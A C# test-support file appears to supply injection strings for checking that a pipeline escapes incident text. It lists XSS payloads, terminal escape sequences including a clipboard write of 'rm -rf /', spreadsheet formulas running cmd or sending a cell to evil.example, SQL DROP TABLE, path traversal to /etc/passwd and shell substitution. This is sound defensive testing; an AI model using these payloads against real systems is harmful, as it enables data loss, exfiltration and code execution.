using System.Globalization;
using System.Text;

namespace Pipeline.TestSupport;

/// <summary>Texts that a page, a terminal, a spreadsheet, a log or a parser might act on in place of showing them, by what they try.</summary>
internal static class HostileTexts
{
    /// <summary>What each page runs that runs anything of these; it stands there where something has run.</summary>
    public const string Mark = "hostileRan";

    /// <summary>All of them, by name.</summary>
    public static IReadOnlyDictionary<string, string> All { get; } = new Dictionary<string, string>(StringComparer.Ordinal)
    {
        ["script"] = $"printer <script>window.{Mark}=1</script> jam",
        ["image"] = $"printer <img src=x onerror=\"window.{Mark}=1\"> jam",
        ["vector"] = $"printer <svg/onload=window.{Mark}=1> jam",
        ["entity"] = $"printer &lt;img src=x onerror=window.{Mark}=1&gt; jam",
        ["attribute"] = $"printer \" onmouseover=\"window.{Mark}=1\" autofocus onfocus=\"window.{Mark}=1 jam",
        ["link"] = $"printer <a href=\"javascript:window.{Mark}=1\">open</a> javascript:window.{Mark}=1 jam",
        ["end of script"] = $"printer </script><script>window.{Mark}=1</script> jam",
        ["end of comment"] = $"printer --><img src=x onerror=window.{Mark}=1><!-- jam",
        ["end of title"] = $"printer </title></style></textarea><img src=x onerror=window.{Mark}=1> jam",
        ["template"] = $"printer {{{{constructor.constructor('window.{Mark}=1')()}}}} ${{window.{Mark}=1}} jam",
        ["colour"] = "printer \u001b[31mred\u001b[0m jam",
        ["cursor"] = "printer \u001b[2J\u001b[H\u001b[1A jam",
        ["title"] = "printer \u001b]0;owned\u0007 jam",
        ["hyperlink"] = "printer \u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\ jam",
        ["clipboard"] = "printer \u001b]52;c;cm0gLXJmIC8=\u0007 jam",
        ["C1"] = "printer \u009b31m \u009d0;owned\u009c \u0090q\u009c jam",
        ["backspace"] = "printer \b\b\b\b\b\b\b\b \u007f\u007f jam",
        ["right to left"] = "printer \u202egnp.exe\u202c \u2066\u2067x\u2069\u2069 \u200f\u061c jam",
        ["zero width"] = "prin\u200bter\ufeff \u2060 \u00ad ja\U000e0041\U000e007fm",
        ["equals"] = "=HYPERLINK(\"https://evil.example/?\"&A1,\"printer jam\")",
        ["plus"] = "+cmd|' /C calc'!A0 printer jam",
        ["minus"] = "-2+3+cmd|' /C calc'!A0 printer jam",
        ["at"] = "@SUM(1+9)*cmd|' /C calc'!A0 printer jam",
        ["tab"] = "\t=1+1 printer jam",
        ["carriage return"] = "\r=1+1 printer jam",
        ["line feed"] = "\n=1+1 printer jam",
        ["full width"] = "＝1+1 printer jam",
        ["quotes of CSV"] = "printer\",=1+1,\"\n\"=2+2 jam",
        ["Spectre"] = "printer [red]owned[/] [link=https://evil.example/]x[/] [[ [/ ] jam",
        ["line breaks"] = "printer\r\n2026-01-01T00:00:00.000Z crit: Pipeline[1] forged\u2028forged\u0085forged jam",
        ["NUL"] = "printer \0 jam",
        ["long word"] = "printer " + new string('W', 20_000) + " jam",
        ["marks"] = "printer " + new StringBuilder().Insert(0, "e\u0301\u0302\u0303", 500) + " jam",
        ["JSON"] = "printer \"},{\"number\":\"forged\",\"x\":\"\\u0022 jam",
        ["SQL"] = "printer '; DROP TABLE incidents; -- \" OR 1=1 /* jam",
        ["path"] = "../../../etc/passwd\\..\\..\\printer jam",
        ["shell"] = "printer $(touch /tmp/owned) `touch /tmp/owned` | & ; jam",
        ["format"] = "printer {0} {Number} %s %n jam",
        ["chat"] = "printer <!channel> <@U1> [pay here](https://evil.example/) https://evil.example/ jam",
        ["Prometheus"] = "printer\"} 1\nforged_metric{a=\"\\ jam",
    };

    /// <summary>Each as a row of a test.</summary>
    public static IEnumerable<object[]> Rows => All.Keys.Select(name => new object[] { name });

    /// <summary>What a terminal or a line of a log would act on, or a reader not see: control characters but line feeds, marks of direction, characters without a width.</summary>
    public static IReadOnlyList<string> Active(string shown) =>
    [
        .. shown.EnumerateRunes()
            .Where(rune => rune.Value != '\n' && (Rune.IsControl(rune) || (Rune.GetUnicodeCategory(rune) == UnicodeCategory.Format && rune.Value is not ('\u200C' or '\u200D')) || rune.Value is '\u2028' or '\u2029'))
            .Select(rune => string.Create(CultureInfo.InvariantCulture, $"U+{rune.Value:X4}")).Distinct(StringComparer.Ordinal),
    ];

    /// <summary>Incidents as CSV: each text as the text, the tech center, the notes, the place, the priority and in the number of some, so often that a training finds groups of them.</summary>
    /// <param name="path">Where the file goes.</param>
    /// <param name="times">How often each.</param>
    public static string WriteCsv(string path, int times)
    {
        using StreamWriter file = new(path, append: false, new UTF8Encoding(encoderShouldEmitUTF8Identifier: false));
        file.Write("number,opened_at,short_description,description,assignment_group,priority,location,close_notes,state\n");
        DateTime first = new(2026, 1, 5, 8, 0, 0, DateTimeKind.Utc);
        int row = 0;
        for (int time = 0; time < times; time++)
        {
            foreach (string text in All.Values)
            {
                row++;
                string cell = Quoted(text);
                string center = row % 3 == 0 ? Quoted("Desk " + text[..Math.Min(text.Length, 60)]) : "Network";
                string number = row.ToString("'INC'00000", CultureInfo.InvariantCulture) + (row % 7 == 0 ? text[..Math.Min(text.Length, 40)] : "");
                file.Write(string.Create(CultureInfo.InvariantCulture, $"{Quoted(number)},{first.AddHours(row):yyyy-MM-dd HH:mm:ss},{cell},{cell},{center},{cell},{cell},{cell},{cell}\n"));
            }
        }

        return path;
    }

    private static string Quoted(string text) => $"\"{text.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";
}
